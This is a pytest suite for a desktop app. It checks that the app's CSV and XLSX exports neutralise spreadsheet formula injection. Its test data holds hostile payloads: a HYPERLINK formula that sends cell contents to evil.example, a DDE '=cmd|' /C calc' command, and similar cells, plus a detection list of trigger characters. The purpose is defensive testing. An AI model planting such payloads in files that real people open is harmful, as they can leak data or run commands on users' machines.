"""Every file the app writes is safe to open in Excel: no cell a spreadsheet would run as a formula.

Writers audited (each tested below with hostile text in every place a user or a provider's file
controls): the Register CSV and its error report (``export``), the check report (``check --format
csv --out``), receipts as CSV and XLSX (upload, ``history --receipt``), and the window's problems
report (``desktop/ui/reports.py``, CSV and XLSX). JSON files (profiles, ``check --format json``,
``history --format json``, the autosave) are not spreadsheets: a spreadsheet program imports them
as text and runs nothing.

A CSV cell is dangerous when it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (OWASP); a lone ``-`` is not. An XLSX cell is dangerous when it is stored as a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from desktop.cli import main
from desktop.core.journal import Batch, BatchMeta, Item, ItemState
from desktop.core.receipt import read_receipt_csv, write_receipt
from desktop.core.safety import safe_cell, text_cells
from desktop.core.session import ImportSession
from tests.helpers import TODAY, journal_outcome, valid_row, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1", "=cmd|' /C calc'!A0", "=1,=2"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def dangerous_csv_cells(path: Path, encoding: str = "utf-8") -> list[str]:
    """Cells of a CSV file, read as a spreadsheet program would, that would run as a formula."""
    text = path.read_text(encoding)
    bad = []
    for row in csv.reader(io.StringIO(text, newline="")):
        bad += [c for c in row if c != "-" and c.startswith(TRIGGERS)]
    return bad


def formula_cells(path: Path) -> list[str]:
    """Cells of an XLSX file stored as formulas (from the XML itself, and as openpyxl reads them)."""
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    found = ["<f>" + xml.split("<f>", 1)[1][:40]] if "<f>" in xml or "<f " in xml else []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        found += [str(c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return found


def test_safe_cell_covers_owasps_list():
    for v in HOSTILE:
        assert safe_cell(v).startswith("'") and safe_cell(v)[1:] == v
    assert [safe_cell(v) for v in ("-", "", "O'Brien", "Siân", "1990-04-13", "#1")] == \
        ["-", "", "O'Brien", "Siân", "1990-04-13", "#1"]


def test_text_cells_keep_the_text_and_store_no_formula(tmp_path):
    for write_only in (False, True):
        wb = openpyxl.Workbook(write_only=write_only)
        ws = wb.create_sheet("S") if write_only else wb.active
        text_cells(ws, HOSTILE)
        path = tmp_path / f"t{write_only}.xlsx"
        wb.save(path)
        assert formula_cells(path) == []
        values = next(openpyxl.load_workbook(path).worksheets[-1].iter_rows(values_only=True))
        assert [v.lstrip() for v in values] == [v.lstrip() for v in HOSTILE]  # the text itself, no apostrophe


@pytest.fixture
def hostile_file(tmp_path):
    """Valid rows whose free-text cells hold formulas, and rows with errors whose bad values are formulas."""
    rows = [valid_row(provider_trainee_id=v, first_names=v, last_name="O'Brien" + str(i), hesa_id=f"26100000000{i:02d}",
                      trainee_start_date="") for i, v in enumerate(HOSTILE)]
    rows += [valid_row(sex=v, hesa_id=f"26100000001{i:02d}", last_name=v, date_of_birth=v, email=v, study_mode=v)
             for i, v in enumerate(HOSTILE)]
    return write_csv(tmp_path / "=evil,+file.csv", rows)


def test_register_csv_and_its_error_report(tmp_path, hostile_file, capsys):
    out = tmp_path / "register.csv"
    assert main(["export", str(hostile_file), "--out", str(out), "--allow-errors", "--today", TODAY.isoformat()]) == 0
    errors = tmp_path / "register-errors.csv"
    assert out.exists() and errors.exists()
    assert dangerous_csv_cells(out) == [] and dangerous_csv_cells(errors) == []
    text = out.read_text("utf-8")
    assert "'=HYPERLINK" in text and "'+1+1" in text  # neutralised, not dropped
    # and the export reads back as the same values (Register and check strip one apostrophe)
    session = ImportSession.open(out, today=TODAY)
    assert set(session.columns["first_names"]) >= {v.strip() for v in HOSTILE if v.strip()}


@pytest.mark.parametrize("list_changes", [False, True])
def test_check_report_as_csv(tmp_path, hostile_file, list_changes):
    report = tmp_path / "report.csv"
    args = ["check", str(hostile_file), "--format", "csv", "--out", str(report), "--today", TODAY.isoformat(),
            "--map-values"]
    assert main(args + (["--list-changes"] if list_changes else [])) == 1
    assert dangerous_csv_cells(report) == []
    assert "'=HYPERLINK" in report.read_text("utf-8")


def hostile_batch() -> tuple[Batch, list[Item]]:
    meta = BatchMeta(key="k", environment="sandbox", environment_label="=Sandbox,+x", base_url="https://x/api/v2026.1",
                     file_name="=evil,=HYPERLINK(1).csv", file_hash="ab" * 32, sheet="@Sheet,-1",
                     template_version="v2026.1", reference_data="v2026.1", app_version="0.1.0",
                     account="=cmd|' /C calc'!A0,@x")
    batch = Batch(id=1, meta=meta, status="open", created_at="2026-11-28T10:00:00.000Z",
                  updated_at="2026-11-28T10:00:00.000Z", finished_at=None, receipt_path=None,
                  counts={"created": 1, "rejected": 1})
    items = [
        Item(id=1, batch_id=1, source_row=2, position=0, fingerprint="f", payload_hash="p", cycle=2026,
             state=ItemState.CREATED, maybe_sent=False, attempts=1, first_sent_at=None, last_sent_at="+1",
             http_status=201, trainee_id="=1+1", trainee_state="@x", confirmed_by="201", messages=(),
             updated_at=None),
        Item(id=2, batch_id=1, source_row=3, position=1, fingerprint="f", payload_hash="p", cycle=2026,
             state=ItemState.REJECTED, maybe_sent=False, attempts=1, first_sent_at=None, last_sent_at=None,
             http_status=422, trainee_id=None, trainee_state=None, confirmed_by=None,
             messages=tuple(HOSTILE), updated_at=None),
    ]
    return batch, items


def test_receipt_csv(tmp_path):
    batch, items = hostile_batch()
    path = write_receipt(tmp_path / "r.csv", batch, items, provider_ids={2: "-1+1", 3: "=A1"})
    assert dangerous_csv_cells(path, "utf-8-sig") == []
    meta, rows = read_receipt_csv(path)  # still readable, values intact
    assert meta["File"].startswith("=evil,=HYPERLINK(1).csv") and meta["Sent by"] == "=cmd|' /C calc'!A0,@x"
    assert [r["provider_trainee_id"] for r in rows] == ["'-1+1", "'=A1"]


def test_receipt_xlsx(tmp_path):
    batch, items = hostile_batch()
    path = write_receipt(tmp_path / "r.xlsx", batch, items, provider_ids={2: "-1+1", 3: "=A1"})
    assert formula_cells(path) == []
    wb = openpyxl.load_workbook(path)
    table = list(wb["Receipt"].values)
    assert table[1][1] == "-1+1" and table[2][1] == "=A1" and table[1][3] == "=1+1"  # exact text, stored as text
    assert dict(wb["About"].values)["Sent by"] == "=cmd|' /C calc'!A0,@x"


def test_history_receipt_copy_uses_the_same_writer(tmp_path, capsys):
    """``history N --receipt`` on a real journal: hostile file name in both formats."""
    from desktop.core.journal import Journal, NewItem

    batch, _ = hostile_batch()
    with Journal() as j:
        b = j.start_batch(batch.meta, [NewItem(source_row=2, position=0, fingerprint="f", payload_hash="p", cycle=2026)])
        journal_outcome(j, b, 2, "rejected", messages=HOSTILE)
    for name in ("copy.csv", "copy.xlsx"):
        assert main(["history", str(b), "--receipt", str(tmp_path / name)]) == 0
    assert dangerous_csv_cells(tmp_path / "copy.csv", "utf-8-sig") == []
    assert formula_cells(tmp_path / "copy.xlsx") == []


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_windows_problems_report(tmp_path, hostile_file, suffix):
    from desktop.ui.reports import write_error_report

    session = ImportSession.open(hostile_file, today=TODAY)
    path = tmp_path / f"problems{suffix}"
    for include in (False, True):
        write_error_report(session, path, {"first_names", "last_name", "date_of_birth", "email"},
                           include_personal=include)
        assert (dangerous_csv_cells(path) if suffix == ".csv" else formula_cells(path)) == []
